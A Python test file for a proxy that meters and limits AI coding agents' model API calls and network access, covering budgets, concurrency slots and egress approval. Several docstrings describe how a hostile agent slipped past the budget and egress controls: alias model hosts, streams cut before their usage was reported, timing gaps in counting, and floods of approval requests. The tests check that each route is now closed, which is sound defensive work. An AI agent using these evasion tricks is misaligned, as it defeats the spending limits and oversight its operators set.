    await rig.room_for_one(sid)
    rig.model.hold_after_first = release = trio.Event()
    statuses: list[int] = []

    async def call() -> None:
        statuses.append((await rig.post(auth, ANTHROPIC, {"stream": True}))[0])

    most = slots.MAX_IN_FLIGHT
    calls = most + 4
    with trio.fail_after(30):
        async with trio.open_nursery() as nursery:
            for _ in range(calls):
                nursery.start_soon(call)
            # Every call has reached the upstream or waits for a slot.
            while len(rig.model.seen) + rig.controls.slots.in_flight(sid)[1] < calls:
                await trio.sleep(0.05)
            release.set()
    assert statuses.count(200) <= most, statuses
    assert statuses.count(429) == calls - most and len(rig.model.seen) == most
    assert rig.controls.slots.in_flight(sid) == (0, 0)  # every slot freed


async def test_counts_just_written_stay_in_the_budget_until_the_proxy_has_read_them(
        unhurried: None, rig: Rig) -> None:
    """Between the ledger's write of a batch and the proxy's next read of the totals, the
    batch was in neither: a budget check then saw none of it, and an agent calling without
    pause got calls in at each write. The check now counts it until the read has it."""
    sid, _ = auth = rig.session("between")
    await rig.room_for_one(sid)
    assert (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200
    with trio.fail_after(10):  # the proxy has ended the exchange and counted it
        while not rig.controls.ledger.unflushed(sid):
            await trio.sleep(0.05)
    session = await rig.state.directory.lookup(sid)
    assert session is not None
    assert rig.controls.budget_refusal(session) is not None  # counted, not yet written
    await rig.controls.ledger.flush()  # written; the proxy has not read it back yet
    assert rig.controls.budget_refusal(session) is not None


async def test_every_host_a_model_credential_goes_to_is_under_the_budget(rig: Rig) -> None:
    """The hostile agent with its budget spent calls Codex's model API at the other name
    the ChatGPT login's rule serves, ``chat.openai.com``: the proxy put the person's login
    in and passed it, never metered or checked. Every host a model credential goes to is a
    model host, so the spent budget answers it too."""
    sid, _ = auth = rig.session("alias")
    config = rig.state.config
    model = config.upstreams["api.openai.com"]
    rig.state.config = replace(config, model_hosts=DEFAULT_MODEL_HOSTS, upstreams={
        **config.upstreams, "chatgpt.com": model, "chat.openai.com": model})
    rig.state.pool.reconfigure(rig.state.config)  # both names lead to the fake
    controlstore.set_budget(rig.store, sid, Budget(tokens=0))
    with trio.fail_after(10):  # the proxy holds the budget within a refresh
        while sid not in rig.controls.snapshot.budgets:
            await trio.sleep(0.05)
    for url in ("https://chatgpt.com/backend-api/codex/responses",
                "https://chat.openai.com/backend-api/codex/responses"):
        status, body = await rig.post(auth, url, {"stream": True})
        assert status == 429, (url, status, body)
    assert not [s for s in rig.model.seen if "codex" in s.target]


async def test_gemini_is_metered_and_works_under_a_budget(rig: Rig) -> None:
    """Gemini's calls (whole, streamed as SSE, streamed as a JSON array) are metered from
    their ``usageMetadata`` like the others, so a Gemini session works under a budget and
    its budget counts what it spends (they were refused under one, uncounted without)."""
    sid, _ = auth = rig.session("gemini")
    controlstore.set_budget(rig.store, sid, Budget(tokens=10**9))
    with trio.fail_after(10):  # the proxy holds the budget within a refresh
        while sid not in rig.controls.snapshot.budgets:
            await trio.sleep(0.05)
    base = "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-pro"
    for url in (f"{base}:generateContent", f"{base}:streamGenerateContent?alt=sse",
                f"{base}:streamGenerateContent"):
        status, body = await rig.post(auth, url, {"contents": []})
        assert status == 200, (url, body)
    rows = await rig.rows(sid, 3)
    u = rig.model.usage
    assert [(r.model, r.requests, r.unmetered) for r in rows] == [("gemini-2.5-pro", 3, 0)]
    assert rows[0].usage == Usage(input=3 * u["input"], output=3 * u["output"],
                                  cache_read=3 * u["cache_read"])


# The client hangs up mid-answer on purpose: httpx leaves its body reader to the collector.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
async def test_an_openai_stream_cut_before_its_usage_counts_its_input_too(rig: Rig) -> None:
    """OpenAI's streams say the input only in their last event: the hostile agent sends a
    long prompt and hangs up before it, and its input was never counted. The input is
    counted from what the request carried, one token per byte (no token is shorter)."""
    auth = rig.session("stuffer")
    rig.model.hold_at, rig.model.hold_after_first = 1, trio.Event()
    prompt = "words " * 2000
    ctx = ssl.create_default_context(cafile=str(rig.home / "proxy-ca.pem"))
    proxy_url = f"http://{auth[0]}:{auth[1]}@127.0.0.1:{rig.port}"
    with trio.fail_after(15):
        async with httpx.AsyncClient(proxy=proxy_url, verify=ctx, timeout=20) as c, \
                c.stream("POST", CHAT, json={"stream": True, "model": "x",
                                             "messages": [{"role": "user",
                                                           "content": prompt}]}) as r, \
                aclosing(r.aiter_lines()) as lines:
            async for line in lines:
                if line.startswith("data:"):
                    break  # the first chunk: hang up before the usage
    rows = await rig.rows(auth[0], 1)
    rig.model.hold_after_first.set()
    assert [(r.requests, r.unmetered) for r in rows] == [(1, 1)]
    assert rows[0].usage.input >= len(prompt), rows[0].usage


async def test_an_agent_asking_again_and_again_leaves_a_bounded_number_of_asks(
        rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    """The hostile agent in ``ask`` mode asks for a host nobody answers, again and again
    (each ask expires, the next request opens a new one): every ask was a row kept for ever,
    the session's deletion included, some 28,800 a day at the shipped minute. Now a session
    keeps its open asks and the newest closed ones (2 and 2 here, 20 and 40 shipped), and its
    deletion takes its asks and its lists with it."""
    monkeypatch.setattr(egressstore, "MAX_OPEN_ASKS", 2)
    monkeypatch.setattr(egressstore, "MAX_CLOSED_ASKS", 2)
    sid, _ = auth = rig.session("nagger")
    rig.store.update_session(sid, egress_mode="ask")
    egressstore.put_host(rig.store, sid, "kept.example", Verdict.DENY)
    rig.controls.settings = replace(rig.controls.settings,
                                    egress=EgressDefaults(ask_seconds=0.2))
    for _ in range(8):
        status, body = await rig.curl(auth, "https://evil.example/again")
        assert status == 403 and b"nobody allowed it in time" in body

    def asks() -> int:
        with rig.store.reading() as conn:
            [count] = conn.execute("SELECT COUNT(*) FROM egress_asks WHERE session_id = ?",
                                   (sid,)).fetchone()
        return int(count)

    assert asks() <= 2 + 2
    rig.store.delete_session(sid)
    assert asks() == 0 and egressstore.listed(rig.store, sid) == []


async def test_a_chatgpt_logins_model_errors_show_as_the_sessions_model_error(rig: Rig) -> None:
    """Codex signed in with the person's ChatGPT login asks ChatGPT's Responses: a 429, a
    5xx, a 401 there is the session's model error as at any model API, the 401 saying to
    sign Codex in again (its refresh failed too, or it would have asked again); an answer
    that works clears it."""
    sid, _ = auth = rig.session("chatgpt-health")
    config = rig.state.config
    rig.state.config = replace(config, model_hosts=DEFAULT_MODEL_HOSTS, upstreams={
        **config.upstreams, "chatgpt.com": config.upstreams["api.openai.com"]})
    rig.state.pool.reconfigure(rig.state.config)
    own = f"authorization: Bearer {chatgpt_placeholder(KEY, sid)}"
    url = "https://chatgpt.com/backend-api/codex/responses"

    async def model_error() -> str | None:
        await rig.controls.ledger.flush()
        found = rig.store.get_session(sid)
        assert found is not None
        return found.model_error

    for status, said in ((429, "429: rate-limited or out of credit at chatgpt.com"),
                         (502, "502: a problem at chatgpt.com; the agent retries"),
                         (401, "401: the person's ChatGPT login was refused; sign Codex in "
                               "again where the appliance runs (`codex login`)"), (200, None)):
        rig.model.refuse = None if status == 200 else status
        assert (await rig.post(auth, url, {"stream": True}, own))[0] == status
        expected = said and f"the model API answered {said}"
        with trio.move_on_after(10):  # the proxy has ended the exchange and judged it
            while (found := await model_error()) != expected:
                await trio.sleep(0.05)
        assert found == expected, status
    assert [s.header("authorization") for s in rig.model.seen] == \
        [[f"Bearer {SECRETS['codex_access_token']}"]] * 4
